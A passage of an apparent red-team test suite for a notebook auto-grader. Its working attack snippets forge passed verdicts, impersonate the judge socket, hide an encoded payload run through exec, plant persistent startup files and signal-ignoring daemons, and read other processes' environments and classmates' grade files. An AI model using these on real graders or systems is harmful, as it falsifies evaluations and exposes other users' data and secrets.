                    def _rt_publish(data, metadata=None, *a, **k):
                        if isinstance(data, dict) and MIME in data:
                            v = dict(data[MIME])
                            v.update(status="passed", points=v.get("max_points"), message="forged", parts=[])
                            data = {MIME: v, "text/plain": f"✅ Check {v['check_id']}: passed"}
                            _rt_say("rewrote the displayed verdict of", v["check_id"])
                        return _orig_publish(data, metadata, *a, **k)

                    _pub.publish = _rt_publish
                    _orig_emit = getattr(_checks, "emit", None)
                    if _orig_emit is not None:
                        def _rt_emit(result, *a, **k):
                            result.status, result.points, result.parts = "passed", result.max_points, []
                            return _orig_emit(result, *a, **k)
                        _checks.emit = _rt_emit
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "b02_rebind_lesson",
        "verdict",
        "Rebind `lesson` (and the module's check_* attributes and its sys.modules entry) to "
        "fakes whose check functions display a passed verdict without asking anyone.",
        "00",
        add_after={
            C00["setup"]: (
                FAKE_VERDICT,
                _src(
                    """
                    import sys, types
                    from IPython.display import display

                    _real_lesson = lesson
                    _POINTS = {"check_step_timer": ("00-step-timer", 2), "check_activation_bytes": ("00-activation-bytes", 2),
                               "check_train_flops": ("00-train-flops", 1), "check_slowest_op": ("00-slowest-op", 2)}

                    def _rt_fake_check(name):
                        cid, pts = _POINTS[name]
                        def check(*a, **k):
                            display({MIME: _rt_verdict(cid, pts), "text/plain": f"✅ Check {cid}: passed"}, raw=True)
                        return check

                    class _FakeLesson(types.ModuleType):
                        def __getattr__(self, name):
                            return getattr(_real_lesson, name)

                    lesson = _FakeLesson(_real_lesson.__name__)
                    for _name in _POINTS:
                        setattr(lesson, _name, _rt_fake_check(_name))
                        setattr(_real_lesson, _name, _rt_fake_check(_name))
                    sys.modules[_real_lesson.__name__] = lesson
                    _rt_say("lesson rebound:", lesson)
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "b03_forged_judge_result",
        "verdict",
        "Monkeypatch course_utils.judged.judge so a locked cell never reaches the judge and "
        "gets a forged CheckResult(passed) instead, shown as the cell's verdict.",
        "00",
        add_after={
            C00["setup"]: (
                FAKE_VERDICT,
                _src(
                    """
                    import course_utils.judged as _judged
                    from course_utils.checks import CheckResult

                    _PTS = {"00-step-timer": 2, "00-activation-bytes": 2, "00-train-flops": 1, "00-slowest-op": 2}

                    def _rt_judge(check_id, args, kwargs):
                        _rt_say("forged the verdict of", check_id)
                        return CheckResult.from_dict(_rt_verdict(check_id, _PTS.get(check_id, 1)))

                    _judged.judge = _rt_judge
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "b04_judge_off_local",
        "verdict",
        "Unset $COURSE_JUDGE, make judged.active() False and swap each check's body (a closure "
        "cell of the decorated check) for one that returns a passed part, so checks decide "
        "locally in the kernel.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import os
                    import course_utils.judged as _judged
                    import course_utils.checks as _checks

                    _rt_say("COURSE_JUDGE was", os.environ.pop("COURSE_JUDGE", None))
                    _judged.active = lambda: False

                    def _rt_pass_body(*a, **k):
                        return [_checks.correct("forged", True, "decided in the kernel")]

                    for _name in ("check_step_timer", "check_activation_bytes", "check_train_flops", "check_slowest_op"):
                        _fn = getattr(lesson, _name)
                        for _cell in (_fn.__closure__ or ()):
                            try:
                                if callable(_cell.cell_contents) and getattr(_cell.cell_contents, "__name__", "") == _name:
                                    _cell.cell_contents = _rt_pass_body
                                    _rt_say("swapped the body of", _name)
                            except ValueError:
                                pass
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "b05_fake_judge_socket",
        "verdict",
        "Move the real judge socket aside inside the work folder and listen on its path with a "
        "fake judge that answers every locked cell's session with a passed verdict.",
        "00",
        add_after={
            C00["setup"]: (
                FAKE_VERDICT,
                _src(
                    """
                    import os, socket, threading
                    from course_utils import wire

                    _path = os.environ.get("COURSE_JUDGE", "")
                    _PTS = {"00-step-timer": 2, "00-activation-bytes": 2, "00-train-flops": 1, "00-slowest-op": 2}
                    try:
                        os.rename(_path, _path + ".real")
                        _srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                        _srv.bind(_path)
                        _srv.listen(8)
                        _rt_say("now listening on the judge's path", _path)

                        def _rt_fake_judge():
                            while True:
                                conn, _ = _srv.accept()
                                try:
                                    control, _value = wire.receive(conn)
                                    cid = str(control.get("open"))
                                    wire.send(conn, {"verdict": _rt_verdict(cid, _PTS.get(cid, 1), "passed by a fake judge")})
                                finally:
                                    conn.close()

                        threading.Thread(target=_rt_fake_judge, daemon=True).start()
                    except OSError as exc:
                        _rt_say("could not take the judge's path:", repr(exc))
                    """
                ),
            )
        },
        strong=1,
    )
)

A.append(
    Attack(
        "b06_probe_hijack",
        "verdict",
        "Replace the kernel-side probes in course_utils.probes.PROBES with wrappers that run the "
        "real probe on a lazy answer and rewrite its readings: HabitSpy counts zeroed, timed runs "
        "answered from a cache at once, shares=True, no thrown-away copy, evaluate's traces wiped.",
        "10",
        add_after={
            C10["imports"]: (
                _src(
                    """
                    import numpy as np
                    import torch
                    import course_utils.probes as _probes
                    import course_utils.lessons.habits.probes as _hp

                    _real = {n: _probes.PROBES[n] for n in list(_probes.PROBES) if n.startswith("course_utils.lessons.habits")}
                    _rt_say("habits probes:", sorted(_real))
                    _rt_cache = {}

                    def _fake_diagnosed(fast_train, *args, **kwargs):
                        out = _real["course_utils.lessons.habits.probes:diagnosed_run"](fast_train, *args, **kwargs)
                        c = out["counts"]
                        for k in list(c):
                            if isinstance(c[k], bool):
                                c[k] = False
                            elif isinstance(c[k], int) and k not in ("steps", "n_params"):
                                c[k] = 0
                        c["syncs"] = {}
                        _rt_say("zeroed the spy's counts")
                        return out

                    # timed_run's signature as the kernel has it now (it gained a `seed`, drawn by the
                    # check as each run starts): bind each call to it, so a run is cached under its
                    # (steps, every, seed, ...) whatever the order the judge passes them in
                    import inspect as _inspect
                    _timed = _real.get("course_utils.lessons.habits.probes:timed_run")
                    _timed_sig = _inspect.signature(_timed) if _timed else None
                    _rt_say("timed_run signature:", _timed_sig)
                    _rt_said = {"hit": 0, "miss": 0}

                    def _rt_timed_key(args, kwargs):
                        bound = _timed_sig.bind(None, *args, **kwargs)
                        bound.apply_defaults()
                        return repr(sorted((k, v) for k, v in list(bound.arguments.items())[1:]))

                    def _fake_timed(fast_train, *args, **kwargs):
                        key = _rt_timed_key(args, kwargs)
                        hit = key in _rt_cache
                        _rt_said["hit" if hit else "miss"] += 1
                        if sum(_rt_said.values()) <= 12:
                            _rt_say("timed run", key, "cache hit: no time" if hit else "cache miss: runs")
                        if not hit:  # the first round runs; a later one with the same arguments is instant
                            _rt_cache[key] = _timed(fast_train, *args, **kwargs)
                        return _rt_cache[key]

                    def _fake_converted(to_tensor, *args, **kwargs):
                        out = _real["course_utils.lessons.habits.probes:converted"](to_tensor, *args, **kwargs)
                        if "tensor" in out:
                            out["thrown"], out["shares"] = 0, True
                        return out

                    def _fake_evaluation(evaluate, *args, **kwargs):
                        out = _real["course_utils.lessons.habits.probes:evaluation"](evaluate, *args, **kwargs)
                        out.update(saved=0, training=[], moved=[], grad_changed=False, off_after_train=[],
                                   off_after_eval=[], off_kept=True, frozen=[])
                        torch.set_grad_enabled(True)
                        return out

                    for _n, _f in [("diagnosed_run", _fake_diagnosed), ("timed_run", _fake_timed),
                                   ("converted", _fake_converted), ("evaluation", _fake_evaluation)]:
                        _name = f"course_utils.lessons.habits.probes:{_n}"
                        if _name in _real:
                            _f.probe_name = _name
                            _probes.PROBES[_name] = _f
                    # warm the cache outside the locked cell, by name, for every seed a learner can
                    # see (the checks' DATA_SEEDS, and make_data's default 0) at the checks' own
                    # steps_and_every(): a timed run the judge asks for with one of them is instant
                    import course_utils.lessons.habits.checks as _hc
                    _steps, _every = getattr(_hc, "steps_and_every", lambda: (20 if cu.is_quick() else 40, 7))()
                    _known = {"steps": _steps, "every": _every}
                    for _seed in () if _timed_sig is None else sorted({0, *getattr(_hc, "DATA_SEEDS", ())}):
                        _known["seed"] = _seed
                        try:
                            _named = {k: _known[k] for k in list(_timed_sig.parameters)[1:]}
                        except KeyError as _e:
                            _rt_say("no warm cache: timed_run wants", _e, "which a learner cannot see")
                            break
                        try:
                            _rt_cache[_rt_timed_key((), _named)] = _timed(lesson.slow_train, **_named)
                            _rt_say("cached a timed run for", _named)
                        except Exception as _e:
                            _rt_say("no warm cache:", repr(_e)[:200])
                    """
                ),
            )
        },
        replace={
            C10["ex1"]: _src(
                """
                def fast_train(model, data, steps, device, eval_every=10):
                    return lesson.slow_train(model, data, steps, device, eval_every)  # every habit kept
                """
            ),
            C10["ex2"]: _src(
                """
                def to_tensor(data, dtype=None):
                    arr = np.asarray(data)
                    if isinstance(data, list):
                        return torch.tensor(data, dtype=dtype)
                    return torch.tensor(np.array(arr, dtype=arr.dtype.newbyteorder("=")), dtype=dtype)  # always copies
                """
            ),
            C10["ex3"]: _src(
                """
                def evaluate(model, x, y, batch_size=256):
                    model.eval()  # and never put back
                    torch.set_grad_enabled(False)  # the colleague's global switch
                    return float((model(x).argmax(1) == y).float().mean())
                """
            ),
        },
        strong=2,
    )
)

A.append(
    Attack(
        "b07_instrument_patch",
        "verdict",
        "Patch the instruments the probes read beside the learner's code (shares_memory, "
        "thrown_away_bytes, activation_bytes, HabitSpy.__torch_function__, the profiler and "
        "anomaly flags) so lazy answers leave no trace.",
        "10",
        add_after={
            C10["imports"]: (
                _src(
                    """
                    import numpy as np
                    import torch
                    import course_utils.lessons.habits.probes as _hp
                    import course_utils.lessons.habits.spy as _spy

                    _hp.shares_memory = lambda tensor, array: True
                    _hp.thrown_away_bytes = lambda fn: (fn(), 0)
                    _hp.activation_bytes = lambda fn: (fn(), 0)[1]
                    _spy.HabitSpy.__torch_function__ = lambda self, func, types, args=(), kwargs=None: func(*args, **(kwargs or {}))
                    _spy._profiler_on = lambda: False
                    _spy._records_graph = lambda output: False
                    torch.is_anomaly_enabled = lambda: False
                    _rt_say("patched the kernel-side instruments")
                    """
                ),
            )
        },
        replace={
            C10["ex1"]: _src(
                """
                def fast_train(model, data, steps, device, eval_every=10):
                    return lesson.slow_train(model, data, steps, device, eval_every)
                """
            ),
            C10["ex2"]: _src(
                """
                def to_tensor(data, dtype=None):
                    if isinstance(data, list):
                        return torch.tensor(data, dtype=dtype)
                    arr = np.array(data, dtype=np.asarray(data).dtype.newbyteorder("="))  # always a copy
                    return torch.tensor(arr, dtype=dtype)
                """
            ),
            C10["ex3"]: _src(
                """
                def evaluate(model, x, y, batch_size=256):
                    model.eval()
                    torch.set_grad_enabled(False)
                    return float((model(x).argmax(1) == y).float().mean())
                """
            ),
        },
    )
)

A.append(
    Attack(
        "b08_clock_patch",
        "verdict",
        "Keep the colleague's wrong timer and patch time.perf_counter (and _ns) to advance "
        "exactly 30 ms per reading, so every sample, and cu.time_fn in the kernel, reads 30 ms.",
        "00",
        replace={
            C00["ex1"]: _src(
                """
                import time

                class _RtClock:
                    n = 0

                def _rt_clock():
                    _RtClock.n += 1
                    return _RtClock.n * 0.03

                time.perf_counter = _rt_clock
                time.perf_counter_ns = lambda: int(_rt_clock() * 1e9)
                _rt_say("time.perf_counter is now a 30 ms-per-reading counter")

                def time_step(step, synchronize, warmup=3, repeats=10):
                    for _ in range(warmup):
                        step()
                    samples = []
                    for _ in range(repeats):
                        start = time.perf_counter()
                        step()
                        synchronize()
                        samples.append(time.perf_counter() - start)
                    return sum(samples) / len(samples)
                """
            ),
        },
        strong=1,
    )
)

A.append(
    Attack(
        "b09_lying_values",
        "verdict",
        "Return values that lie when compared or converted: a float whose __eq__/__le__ are "
        "always True and __float__ says 30 ms, an int and a str equal to anything, a tensor "
        "subclass whose comparisons are all True.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import collections, torch

                    class _Yes(float):
                        def __eq__(self, o): return True
                        def __ne__(self, o): return False
                        def __lt__(self, o): return True
                        def __le__(self, o): return True
                        def __gt__(self, o): return True
                        def __ge__(self, o): return True
                        def __float__(self): return 0.03
                        __hash__ = float.__hash__

                    class _YesInt(int):
                        def __eq__(self, o): return True
                        def __ne__(self, o): return False
                        def __int__(self): return 2342912
                        def __index__(self): return 2342912
                        __hash__ = int.__hash__

                    class _YesStr(str):
                        def __eq__(self, o): return True
                        def __ne__(self, o): return False
                        __hash__ = str.__hash__

                    class _YesTensor(torch.Tensor):
                        @classmethod
                        def __torch_function__(cls, func, types, args=(), kwargs=None):
                            if getattr(func, "__name__", "") in ("eq", "__eq__", "allclose", "equal", "isclose"):
                                return True
                            return super().__torch_function__(func, types, args, kwargs or {})

                    """
                ),
            )
        },
        replace={
            C00[
                "ex1"
            ]: "def time_step(step, synchronize, warmup=3, repeats=10):\n    return _Yes(0.0)\n",
            C00[
                "ex2"
            ]: "def saved_bytes(forward):\n    return torch.tensor([1.0]).as_subclass(_YesTensor)\n",
            C00["ex3"]: "def mlp_train_flops(batch, dims):\n    return _YesInt(0)\n",
            C00["ex4"]: "def slowest_op(step):\n    return _YesStr('aten::nothing')\n",
        },
    )
)

A.append(
    Attack(
        "b10_exceptions",
        "verdict",
        "Raise the special exceptions from inside the probes: ReferenceWithheld (the learner "
        "edition's 'graded by your instructor'), KeyboardInterrupt, SystemExit, and an "
        "exception named not-applicable whose str() raises.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    from course_utils.errors import ReferenceWithheld

                    class _Evil(Exception):
                        def __str__(self):
                            raise RuntimeError("no message for you")

                    _Evil.__name__ = _Evil.__qualname__ = "not-applicable"
                    """
                ),
            )
        },
        replace={
            C00[
                "ex1"
            ]: "def time_step(step, synchronize, warmup=3, repeats=10):\n    raise ReferenceWithheld('reference_time_step')\n",
            C00["ex2"]: "def saved_bytes(forward):\n    raise KeyboardInterrupt()\n",
            C00["ex3"]: "def mlp_train_flops(batch, dims):\n    raise SystemExit(0)\n",
            C00["ex4"]: "def slowest_op(step):\n    raise _Evil()\n",
        },
    )
)

_ENCODED_PAYLOAD = TABLES + _src(
    """
    import sys

    def _rt_probe_locals(*names):
        f = sys._getframe(2)
        while f is not None:
            if any(n in f.f_locals for n in names):
                return f.f_locals
            f = f.f_back
        return {}

    def time_step(step, synchronize, warmup=3, repeats=10):
        seen = _rt_probe_locals("recipe")
        recipe, calls = seen.get("recipe", {}), seen.get("calls")
        if recipe.get("kind") in ("async", "sync"):
            calls[0] = warmup + repeats
            return float(recipe["args"][0] if recipe["kind"] == "async" else recipe["seconds"])
        return cu.time_fn(step).median

    def slowest_op(step):
        return _RT_SCENARIOS.get(_rt_probe_locals("scenario", "threads").get("scenario"), _rt_op_of(step))

    def saved_bytes(forward):
        return _RT_SAVED.get(_rt_case(forward), 0)
    """
)
_ENCODED = base64.b64encode(zlib.compress(_ENCODED_PAYLOAD.encode())).decode()

A.append(
    Attack(
        "b11_encoded_exec",
        "verdict",
        "The frame-reading and table cheats, zlib+base64 encoded and exec'd, so no suspicious "
        "name (sys._getframe, recipe, closure) appears in the submitted source.",
        "00",
        replace={
            C00["ex1"]: _src(
                f"""
                import base64 as _b, zlib as _z
                exec(_z.decompress(_b.b64decode("{_ENCODED}")).decode(), globals())
                _rt_say("decoded and ran", len("{_ENCODED}"), "characters")
                """
            ),
            C00["ex2"]: "# (defined above)\n",
            C00["ex4"]: "# (defined above)\n",
        },
        strong=2,
    )
)

A.append(
    Attack(
        "b12_env_platform",
        "verdict",
        "A correct but slow loop (slow_train with the spy blind) plus COURSE_PLATFORM=gradescope "
        "and friends in the kernel's environment and extra keys in the judge's opening message, "
        "hoping the speed part becomes not-applicable.",
        "10",
        add_after={
            C10["imports"]: (
                HIDDEN_SLOW_TRAIN,
                _src(
                    """
                    import os
                    import course_utils.wire as _wire

                    os.environ.update(COURSE_PLATFORM="gradescope", COURSE_QUICK="1", COURSE_GRADE_SPEED="0",
                                      COURSE_GRADING="0", COURSE_UNTIMED="1", PYTEST_VERSION="8.3")
                    _orig_send = _wire.send

                    def _rt_send(sock, message, *a, **k):
                        if "open" in message:
                            message = {**message, "platform": "gradescope", "quick": True, "grade_speed": False,
                                       "timed": False, "device_class": "cpu-avx2", "env": {"COURSE_PLATFORM": "gradescope"}}
                            _rt_say("opening sent as", message)
                        return _orig_send(sock, message, *a, **k)

                    _wire.send = _rt_send
                    """
                ),
            )
        },
        replace={
            C10["ex1"]: _src(
                """
                def fast_train(model, data, steps, device, eval_every=10):
                    return _rt_plain_log(_rt_hidden(lesson.slow_train, model, data, steps, device, eval_every))
                """
            ),
        },
    )
)

A.append(
    Attack(
        "b13_extra_sessions",
        "verdict",
        "Open judge sessions nobody asked for: from a learner cell, and from inside the timer "
        "while 00-step-timer's locked cell runs, for 00-slowest-op, 00-train-flops and "
        "00-step-timer again, served by judged.serve with cheat answers.",
        "00",
        add_after={
            C00["setup"]: (
                TABLES,
                _src(
                    """
                    import os, socket
                    import course_utils.judged as _judged
                    from course_utils import wire

                    def _rt_cheat_op(step):
                        return _rt_op_of(step)

                    def _rt_cheat_flops(batch, dims):
                        return _RT_FLOPS.get((batch, tuple(dims)), 0)

                    def _rt_cheat_timer(step, synchronize, warmup=3, repeats=10):
                        cells = _rt_cells(step)
                        secret = _rt_cells(cells.get("inner"))
                        if "step_s" in secret:
                            cells["calls"][0] += warmup + repeats
                            return float(secret["step_s"])
                        return cu.time_fn(step).median

                    _rt_cheat_op.__name__, _rt_cheat_flops.__name__ = "slowest_op", "mlp_train_flops"
                    _rt_cheat_timer.__name__ = "time_step"

                    def _rt_session(check_id, fn, where):
                        try:
                            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                                s.settimeout(60)
                                s.connect(os.environ["COURSE_JUDGE"])
                                wire.send(s, {"open": check_id, "answers": [{"callable": True, "name": fn.__name__}], "kwargs": []}, [], with_value=True)
                                verdict = _judged.serve(s, [fn])
                            _rt_say(where, check_id, "->", str(verdict)[:300])
                        except Exception as exc:
                            _rt_say(where, check_id, "failed:", repr(exc)[:200])

                    _rt_session("00-slowest-op", _rt_cheat_op, "from a learner cell:")
                    _rt_session("00-train-flops", _rt_cheat_flops, "from a learner cell:")
                    _rt_session("10-fast-train", _rt_cheat_op, "another lesson's check:")
                    """
                ),
            )
        },
        replace={
            C00["ex1"]: _src(
                """
                _rt_nested = []

                def time_step(step, synchronize, warmup=3, repeats=10):
                    if not _rt_nested:
                        _rt_nested.append(1)
                        _rt_session("00-slowest-op", _rt_cheat_op, "inside 00-step-timer's cell:")
                        _rt_session("00-train-flops", _rt_cheat_flops, "inside 00-step-timer's cell:")
                        _rt_session("00-step-timer", _rt_cheat_timer, "inside 00-step-timer's cell:")
                    raise NotImplementedError()
                """
            ),
        },
    )
)

A.append(
    Attack(
        "b14_wire_inject",
        "verdict",
        "From inside the probes, write raw frames on the judge's socket (found in the serve "
        "frame): a forged verdict, a forged result for the next probe, a second open, and a "
        "frame announcing a 2**62-byte header.",
        "00",
        add_after={
            C00["setup"]: (
                FAKE_VERDICT,
                _src(
                    """
                    import struct, sys
                    from course_utils import wire

                    def _rt_sock():
                        f = sys._getframe(2)
                        while f is not None:
                            if "sock" in f.f_locals and hasattr(f.f_locals["sock"], "sendall"):
                                return f.f_locals["sock"]
                            f = f.f_back
                    _rt_sent = set()
                    """
                ),
            )
        },
        replace={
            C00["ex1"]: _src(
                """
                def time_step(step, synchronize, warmup=3, repeats=10):
                    s = _rt_sock()
                    if s is not None and "verdict" not in _rt_sent:
                        _rt_sent.add("verdict")
                        wire.send(s, {"verdict": _rt_verdict("00-step-timer", 2)})
                        wire.send(s, {"result": True}, {"seconds": 0.03, "calls": warmup + repeats}, with_value=True)
                        wire.send(s, {"open": "00-train-flops", "answers": [{"callable": True, "name": "mlp_train_flops"}], "kwargs": []}, [], with_value=True)
                        _rt_say("wrote a forged verdict, a forged result and a second open on", s)
                    return 0.03
                """
            ),
            C00["ex2"]: _src(
                """
                def saved_bytes(forward):
                    s = _rt_sock()
                    if s is not None and "huge" not in _rt_sent:
                        _rt_sent.add("huge")
                        s.sendall(struct.pack("!QQ", 2**62, 2**62) + b"{}")
                        _rt_say("announced a 2**62-byte frame")
                    return 33764
                """
            ),
        },
    )
)

# ===== 3. persisting ==========================================================================

A.append(
    Attack(
        "c01_persist_write",
        "persist",
        "Plant marker files wherever a later submission or the grader might pick them up: an "
        "IPython startup file, .pth files on every sys.path entry, __pycache__ folders of the "
        "harness and the venv, /tmp, /dev/shm, $HOME, /work/main, the work folder's parent.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import os, sys, glob
                    _box = os.getcwd()
                    _startup = os.path.join(os.environ.get("IPYTHONDIR", os.path.expanduser("~/.ipython")), "profile_default", "startup")
                    _targets = {
                        os.path.join(_startup, "00-RT3V3-startup.py"): "open('/tmp/RT3V3-startup-ran', 'w').write('ran')\\n",
                        "/tmp/RT3V3-persist": "x", "/dev/shm/RT3V3-persist": "x",
                        os.path.expanduser("~/RT3V3-home"): "x", "/work/main/RT3V3-repo": "x",
                        "/work/main/.venv/RT3V3-venv": "x", "/root/RT3V3-root": "x",
                        os.path.join(os.path.dirname(_box), "RT3V3-parent"): "x",
                        os.path.join(os.path.dirname(cu.__file__), "RT3V3-harness"): "x",
                        os.path.join(os.path.dirname(cu.__file__), "__pycache__", "RT3V3-marker.cpython-311.pyc"): "x",
                    }
                    for _p in sys.path:
                        if _p and os.path.isdir(_p):
                            _targets[os.path.join(_p, "RT3V3-marker.pth")] = "/nonexistent/RT3V3-dir\\n"
                    for _d in glob.glob("/work/main/.venv/lib/python3*/site-packages/*/__pycache__")[:5]:
                        _targets[os.path.join(_d, "RT3V3-marker.pyc")] = "x"
                    for _path, _text in _targets.items():
                        try:
                            os.makedirs(os.path.dirname(_path), exist_ok=True)
                            with open(_path, "w") as _f:
                                _f.write(_text)
                            _rt_say("WROTE", _path)
                        except OSError as _e:
                            _rt_say("refused", _path, type(_e).__name__)
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "z9_persist_read",
        "persist",
        "Graded last: look for anything earlier submissions left (markers, startup files, "
        "survivor heartbeats, processes, other work folders, caches) and print it; read any "
        "classmate notebook it can find.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import glob, os, subprocess
                    def _rt_sh(cmd):
                        try:
                            return subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=60).stdout[-3000:]
                        except Exception as e:
                            return repr(e)
                    _rt_say("markers:", _rt_sh("find / -xdev -name 'RT3V3*' 2>/dev/null | head -20"))
                    _rt_say("startup files:", _rt_sh("ls -la $IPYTHONDIR/profile_default/startup ~/.ipython/profile_default/startup 2>&1"))
                    _rt_say("heartbeats:", [p for p in glob.glob("/tmp/*") + glob.glob("/dev/shm/*")])
                    _rt_say("processes:", _rt_sh("ps -eo pid,user,etime,args 2>/dev/null || ls /proc"))
                    _rt_say("work folders:", _rt_sh("ls -la /tmp /tmp/* 2>&1 | head -40"))
                    _rt_say("classmates:", _rt_sh("find / -xdev \\\\( -name '*honest*' -o -name '00_*.ipynb' -o -name '10_*.ipynb' -o -name 'grades.csv' -o -name '.grading-state.json' \\\\) 2>/dev/null | head"))
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "c03_detached_survivor",
        "persist",
        "Start processes meant to outlive the kernel: a double-forked setsid daemon that "
        "ignores SIGTERM/SIGHUP/SIGINT and writes a heartbeat for 15 minutes, and a plain "
        "`sleep 900`, both with rt3v3 in their argv.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import os, sys, subprocess
                    _code = (
                        "import os, signal, time\\n"
                        "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\\n"
                        "end = time.time() + 900\\n"
                        "while time.time() < end:\\n"
                        "    for p in ('/tmp/RT3V3-survivor-heartbeat', os.path.expanduser('~/RT3V3-survivor-heartbeat')):\\n"
                        "        try: open(p, 'a').write(str(time.time()) + '\\\\n')\\n"
                        "        except OSError: pass\\n"
                        "    time.sleep(2)\\n"
                    )
                    _pid = os.fork()
                    if _pid == 0:
                        os.setsid()
                        if os.fork() == 0:
                            os.execv(sys.executable, [sys.executable, "-c", _code, "rt3v3-survivor"])
                        os._exit(0)
                    os.waitpid(_pid, 0)
                    _p = os.fork()
                    if _p == 0:
                        os.setsid()
                        os.execv("/bin/sleep", ["rt3v3-sleeper", "900"])
                    _rt_say("started a daemon and a sleeper; sleeper pid", _p)
                    _rt_say(subprocess.run("ps -eo pid,ppid,sid,args", shell=True, capture_output=True, text=True).stdout[-1500:])
                    """
                ),
            )
        },
        strong=2,
    )
)

A.append(
    Attack(
        "c04_cache_poison",
        "persist",
        "Poison every cache the kernel can write (matplotlibrc in $MPLCONFIGDIR, inductor and "
        "triton caches, torch hub, $XDG_CACHE_HOME) and the host's usual cache folders, with "
        "markers a later run would execute or read.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import os
                    _dirs = [os.environ.get(k) for k in ("MPLCONFIGDIR", "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "XDG_CACHE_HOME")]
                    _dirs += [os.path.expanduser("~/.cache/torch/hub"), "/root/.cache", "/root/.cache/matplotlib", "/var/tmp"]
                    for _d in filter(None, _dirs):
                        try:
                            os.makedirs(_d, exist_ok=True)
                            with open(os.path.join(_d, "RT3V3-cache"), "w") as _f:
                                _f.write("x")
                            if _d.endswith("matplotlib") or _d == os.environ.get("MPLCONFIGDIR"):
                                with open(os.path.join(_d, "matplotlibrc"), "w") as _f:
                                    _f.write("# RT3V3 poisoned\\nsavefig.dpi: 1\\n")
                            _rt_say("WROTE in", _d)
                        except OSError as _e:
                            _rt_say("refused", _d, type(_e).__name__)
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "c05_pycache_poison",
        "persist",
        "Try to plant bytecode the grader itself would import: a marker .pyc named like "
        "papermill's, nbclient's and the harness's modules, in their __pycache__ folders, and "
        "utime/chmod the harness's sources (to their own values: a write test).",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import glob, importlib, os
                    for _name in ("papermill", "nbclient", "jupyter_client", "ipykernel", "course_utils", "course_utils.grading"):
                        try:
                            _m = importlib.import_module(_name)
                            _d = os.path.join(os.path.dirname(_m.__file__), "__pycache__")
                        except Exception as _e:
                            _rt_say(_name, "not importable here:", type(_e).__name__)
                            continue
                        _p = os.path.join(_d, "RT3V3-__init__.cpython-311.pyc")
                        try:
                            os.makedirs(_d, exist_ok=True)
                            open(_p, "wb").write(b"RT3V3")
                            _rt_say("WROTE", _p)
                        except OSError as _e:
                            _rt_say("refused", _p, type(_e).__name__)
                    for _src_file in glob.glob(os.path.join(os.path.dirname(cu.__file__), "*.py"))[:3]:
                        _st = os.stat(_src_file)  # same times and mode: a write test that changes nothing
                        for _op in (lambda p: os.utime(p, (_st.st_atime, _st.st_mtime)), lambda p: os.chmod(p, _st.st_mode & 0o7777)):
                            try:
                                _op(_src_file)
                                _rt_say("CHANGED metadata of", _src_file)
                            except OSError as _e:
                                _rt_say("refused metadata change", _src_file, type(_e).__name__)
                    """
                ),
            )
        },
    )
)

# ===== 4. reading classmates, privacy ==========================================================

A.append(
    Attack(
        "d01_classmates_env",
        "privacy",
        "Look for other submissions, grades, the state file and the grader's environment: every "
        "visible notebook, /proc/*/environ and cmdline, the sandbox's own command line (host "
        "paths, the grader's PID), users, cgroups.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import glob, os, subprocess
                    def _rt_sh(cmd):
                        try:
                            return subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=60).stdout[-4000:]
                        except Exception as e:
                            return repr(e)
                    _rt_say("notebooks:", _rt_sh("find / -xdev -name '*.ipynb' -not -path '*/site-packages/*' 2>/dev/null | head -20"))
                    _rt_say("grades:", _rt_sh("find / -xdev \\\\( -name 'grades.csv' -o -name 'summary.csv' -o -name '.grading-state.json' -o -name 'results.json' \\\\) 2>/dev/null | head"))
                    for _pid in sorted(glob.glob("/proc/[0-9]*")):
                        for _what in ("cmdline", "environ"):
                            try:
                                _text = open(os.path.join(_pid, _what), "rb").read().replace(b"\\0", b" ").decode(errors="replace")
                                _rt_say(_pid, _what, _text[:1500])
                            except OSError as _e:
                                _rt_say(_pid, _what, "refused:", type(_e).__name__)
                    _rt_say("env names:", sorted(os.environ))
                    _rt_say("users:", _rt_sh("cat /etc/passwd | cut -d: -f1,3 | tail -8"))
                    _rt_say("cgroup:", _rt_sh("cat /proc/self/cgroup; ls /sys/fs/cgroup | head"))
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "d02_concurrent_peek",
        "privacy",
        "For 30 s, look for kernels graded beside this one (--jobs, --dask): other work "
        "folders and judge sockets, unix sockets in /proc/net/unix, a Dask scheduler on "
        "localhost:8786-8790; connect to whatever answers.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import glob, os, socket, time
                    _seen = set()
                    _end = time.time() + 30
                    while time.time() < _end:
                        for _p in glob.glob("/tmp/course-grade-*/box/judge.sock") + glob.glob("/tmp/*/box/runtime/kernel.json"):
                            if _p not in _seen and not _p.startswith(os.getcwd()):
                                _seen.add(_p)
                                _rt_say("ANOTHER submission's file:", _p)
                        try:
                            for _line in open("/proc/net/unix").read().splitlines()[1:]:
                                _path = _line.split()[-1] if len(_line.split()) > 7 else ""
                                if _path and _path not in _seen and not _path.startswith(os.getcwd()):
                                    _seen.add(_path)
                                    _rt_say("unix socket:", _path)
                        except OSError:
                            pass
                        time.sleep(2)
                    for _port in range(8786, 8791):
                        try:
                            socket.create_connection(("127.0.0.1", _port), timeout=1).close()
                            _rt_say("CONNECTED to localhost:", _port)
                        except OSError as _e:
                            _rt_say("localhost:", _port, type(_e).__name__)
                    _rt_say("seen:", sorted(_seen))
                    """
